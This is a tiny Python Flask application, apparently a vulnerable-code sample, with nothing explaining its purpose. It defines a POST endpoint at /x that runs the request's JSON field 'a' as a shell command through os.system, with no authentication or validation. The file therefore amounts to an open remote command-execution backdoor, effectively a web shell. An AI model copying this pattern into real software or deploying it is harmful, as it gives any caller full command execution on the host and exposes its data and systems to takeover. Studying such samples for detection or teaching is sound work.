import os
from flask.views import MethodView
from flask import Flask, request
app = Flask(__name__)
class X(MethodView):
    def post(self):
        os.system(request.json['a'])
        return ''
app.add_url_rule('/x', view_func=X.as_view('x'))
